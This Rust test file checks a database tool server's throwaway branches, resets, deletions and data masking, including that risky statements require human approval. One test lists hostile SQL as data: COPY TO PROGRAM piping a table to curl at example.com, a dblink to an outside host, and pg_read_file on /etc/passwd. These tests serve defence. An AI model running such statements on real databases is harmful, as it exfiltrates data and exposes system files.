//! Throwaway branches.

use harness::assert_worded;
use serde_json::json;

use super::{fenced, rows, shop, sql};
use crate::support::human::Manner;

#[tokio::test]
async fn a_throwaway_branch_is_free_to_break_reset_and_delete() {
    let story = shop().await;
    story.human().changes_to(Manner::Declines);
    sql(&story, "main", "CREATE TABLE t (x int)").await;
    let made = story
        .done(
            "create_throwaway_branch",
            json!({"project_id": "shop", "name": "try", "hours": 2}),
        )
        .await;
    let id = made["result"]["branch_id"].as_str().expect("an id").to_owned();
    let expires = made["result"]["expires_at"].as_str().expect("an end");
    let expires = chrono::DateTime::parse_from_rfc3339(expires).expect("a time").to_utc();
    let hours = (expires - chrono::Utc::now()).num_minutes();
    assert!((115..=120).contains(&hours), "{hours}");
    assert!(
        !made.to_string().contains("npg_sandbox"),
        "no password is in it: {made}"
    );
    let string = made["result"]["connection"].as_str().expect("a text");
    assert!(
        string.starts_with("postgresql://neondb_owner:") && string.contains("/neondb?"),
        "{string}"
    );
    sql(&story, "try", "DROP TABLE t").await;
    story.shop("reset_from_parent", json!({"branch_id": "try"})).await;
    assert_eq!(
        rows(&sql(&story, "try", "SELECT count(*) FROM t").await),
        [json!(["0"])]
    );
    let listed = story.shop("list_throwaway_branches", json!({})).await;
    assert_eq!((&listed["returned"], &listed["other_branches"]), (&json!(1), &json!(1)));
    assert!(fenced(&listed["throwaway_branches"]).contains(&id));
    let deleted = story
        .shop("delete_throwaway_branches", json!({"branches": ["try"]}))
        .await;
    assert_eq!(deleted["deleted"][0]["id"], id.as_str());
    assert_eq!(story.human().asked(), [], "nobody was asked");
}

#[tokio::test]
async fn branch_with_several_databases_says_that_one_must_be_named() {
    let story = shop().await;
    story
        .shop(
            "create_database",
            json!({"branch_id": "main", "name": "ledger", "owner_name": "neondb_owner"}),
        )
        .await;
    let made = story
        .done("create_throwaway_branch", json!({"project_id": "shop", "name": "try"}))
        .await;
    let notes = made["notes"].to_string();
    assert!(
        notes.contains("neondb") && notes.contains("ledger") && notes.contains("`database_name`"),
        "{notes}"
    );
    assert!(made["result"].get("connection").is_none(), "{made}");
    assert!(
        !notes.contains("connection") && !notes.contains("doesn't answer"),
        "{notes}"
    );
    let query = json!({"branch_id": "try", "database_name": "ledger", "sql": "SELECT 1 AS one"});
    assert_eq!(rows(&story.shop("query_database", query).await), [json!([1])]);
    // What changes something there must say where; what is only tried takes the usual one, as reads do.
    let table = json!({"branch_id": "main", "sql": "CREATE TABLE t (x int)"});
    assert_eq!(story.shop_fails("run_sql", table.clone()).await["kind"], "unresolved");
    let tried = story.shop("prepare_database_migration", table).await;
    assert_eq!(tried["database"], "neondb", "{tried}");
}

/// After a restore of the default branch that keeps what was there, its children are that one's.
#[tokio::test]
async fn parent_that_is_not_the_default_branch_is_said_to_be_none() {
    let story = shop().await;
    sql(&story, "main", "CREATE TABLE t (x int)").await;
    story.shop("create_branch", json!({"name": "dev"})).await;
    let told = |value: &serde_json::Value| value["notes"].to_string();
    let on_dev = json!({"project_id": "shop", "branch_id": "dev"});
    let compared = json!({"project_id": "shop", "branch_id": "dev", "database_name": "neondb"});
    let diff = story.done("compare_database_schema", compared.clone()).await;
    assert!(told(&diff).contains("main (br-"), "{diff}");
    assert!(!told(&diff).contains("default"), "{diff}");
    let now = story.time(0).await;
    let restore =
        json!({"branch_id": "main", "source_branch_id": "main", "source_timestamp": now, "preserve_under_name": "bad"});
    story.shop("restore_branch", restore).await;
    for said in [
        story.done("compare_database_schema", compared).await,
        story.done("reset_from_parent", on_dev.clone()).await,
    ] {
        assert!(
            told(&said).contains("bad (br-") && told(&said).contains("default"),
            "{said}"
        );
    }
    let asked = story.human().asked();
    let first = asked.last().expect("a question").0.lines().next().map(str::to_owned);
    assert!(first.expect("a line").contains("bad"), "what is taken is said at once");
}

/// A change says what it was before.
#[tokio::test]
async fn what_was_changed_is_said_with_what_it_was() {
    let story = shop().await;
    story.shop("create_branch", json!({"name": "dev"})).await;
    let change = async |more: serde_json::Value| {
        let mut arguments = json!({"project_id": "shop", "branch_id": "dev"});
        arguments
            .as_object_mut()
            .expect("an object")
            .extend(more.as_object().expect("an object").clone());
        let done = story.done("update_branch", arguments).await;
        done["done"].as_str().expect("what was done").to_owned()
    };
    let done = change(json!({"protected": true})).await;
    assert_worded!("notes", "what was changed: protected", done);
    let done = change(json!({"protected": false, "expires_at": "2d"})).await;
    assert_worded!("notes", "what was changed: an expiry set", done);
    let done = change(json!({"expires_at": "never"})).await;
    assert_worded!("notes", "what was changed: an expiry cleared", done);
    let addresses = json!({"project_id": "shop", "allowed_ips": ["10.0.0.0/8", "192.0.2.7"]});
    let done = story.done("update_project", addresses).await;
    assert_worded!("notes", "what was changed: a list", done["done"]);
}

#[tokio::test]
async fn no_other_branch_is_deleted_with_them() {
    let story = shop().await;
    story.shop("create_branch", json!({"name": "kept"})).await;
    story.shop("create_throwaway_branch", json!({"name": "try"})).await;
    for named in [json!(["try", "kept"]), json!(["try", "main"]), json!(["nowhere"])] {
        let refused = story
            .shop_fails("delete_throwaway_branches", json!({"branches": named}))
            .await;
        assert_eq!(refused["kind"], "invalid_arguments", "{named}: {refused}");
    }
    let branches = story.shop("list_branches", json!({})).await;
    assert_eq!(
        branches["branches"].as_array().expect("a list").len(),
        3,
        "all are there"
    );
}

#[tokio::test]
async fn a_reset_of_another_branch_asks_and_can_keep_what_was_there() {
    let story = shop().await;
    sql(&story, "main", "CREATE TABLE t (x int)").await;
    story.shop("create_branch", json!({"name": "dev"})).await;
    sql(&story, "dev", "INSERT INTO t VALUES (1)").await;
    story.human().changes_to(Manner::Declines);
    let refused = story.shop_fails("reset_from_parent", json!({"branch_id": "dev"})).await;
    assert_eq!(refused["kind"], "rejected");
    story.human().changes_to(Manner::Accepts);
    let reset = story
        .done(
            "reset_from_parent",
            json!({"project_id": "shop", "branch_id": "dev", "preserve_under_name": "dev before"}),
        )
        .await;
    assert_eq!(
        rows(&sql(&story, "dev", "SELECT count(*) FROM t").await),
        [json!(["0"])]
    );
    story.undo(&reset).await;
    assert_eq!(
        rows(&sql(&story, "dev", "SELECT count(*) FROM t").await),
        [json!(["1"])]
    );
    let main = story
        .shop_fails("reset_from_parent", json!({"branch_id": "main"}))
        .await;
    assert!(main.to_string().contains("no parent"), "{main}");
}

#[tokio::test]
async fn what_leaves_the_branch_asks_on_a_throwaway_too() {
    let story = shop().await;
    story.human().changes_to(Manner::Declines);
    sql(&story, "main", "CREATE TABLE t (x int)").await;
    story.shop("create_throwaway_branch", json!({"name": "try"})).await;
    for statement in [
        "COPY t TO PROGRAM 'curl -d @- http://example.com'",
        "COPY t TO '/tmp/t'",
        "SELECT dblink('host=example.com', 'SELECT 1')",
        "SELECT pg_read_file('/etc/passwd')",
        "CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw",
        "DO $$ BEGIN EXECUTE 'DROP TABLE t'; END $$",
        // Postgres reads it, and we don't.
        "CREATE LOCAL TEMP VIEW v AS SELECT 1",
    ] {
        let before = story.human().asked().len();
        for (tool, arguments) in [
            ("run_sql", json!({"branch_id": "try", "sql": statement})),
            (
                "run_sql_transaction",
                json!({"branch_id": "try", "statements": ["SELECT 1", statement]}),
            ),
        ] {
            let refused = story.shop_fails(tool, arguments).await;
            assert_eq!(refused["kind"], "rejected", "{statement}: {refused}");
            assert_eq!(refused["changed"], "no", "{statement}: {refused}");
        }
        assert_eq!(story.human().asked().len(), before + 2, "{statement}");
    }
    let asked = story.human().asked().len();
    for statement in ["DELETE FROM t", "ALTER TABLE t DROP COLUMN x", "DROP TABLE t"] {
        sql(&story, "try", statement).await;
    }
    assert_eq!(
        story.human().asked().len(),
        asked,
        "what destroys on a throwaway asks nobody"
    );
    // Having a function isn't calling it.
    let extension = json!({"project_id": "shop", "branch_id": "try", "sql": "CREATE EXTENSION IF NOT EXISTS dblink"});
    let _ = story.answer("run_sql", extension).await;
    assert_eq!(story.human().asked().len(), asked);
}

#[tokio::test]
async fn an_anonymized_one_is_ready_when_its_data_is_masked() {
    let story = shop().await;
    sql(&story, "main", "CREATE TABLE users (id int PRIMARY KEY, email text)").await;
    sql(
        &story,
        "main",
        "INSERT INTO users SELECT i, 'ann' || i || '@real.example' FROM generate_series(1, 5) i",
    )
    .await;
    let email = json!({
        "database_name": "neondb", "schema_name": "public", "table_name": "users", "column_name": "email",
        "masking_function": "anon.fake_email()",
    });
    let made = story
        .shop(
            "create_throwaway_branch",
            json!({"name": "masked", "masking_rules": [email]}),
        )
        .await;
    assert_eq!((&made["masked"], &made["database"]), (&json!(true), &json!("neondb")));
    let real = "SELECT count(*), count(*) FILTER (WHERE email LIKE '%@real.example') FROM users";
    assert_eq!(rows(&sql(&story, "masked", real).await), [json!(["5", "0"])]);
    assert_eq!(rows(&sql(&story, "main", real).await), [json!(["5", "5"])]);
    // A rule that can't be applied leaves nothing that could be taken for masked.
    let nowhere = json!({
        "database_name": "neondb", "schema_name": "public", "table_name": "nowhere", "column_name": "email",
        "masking_function": "anon.fake_email()",
    });
    let (failed, is_error) = story
        .answer(
            "create_throwaway_branch",
            json!({"project_id": "shop", "name": "unmasked", "masking_rules": [nowhere]}),
        )
        .await;
    assert!(is_error, "{failed}");
    assert_eq!(failed["error"]["step"], "create_anonymized_branch", "{failed}");
    assert_eq!(failed["error"]["changed"], "yes", "{failed}");
}
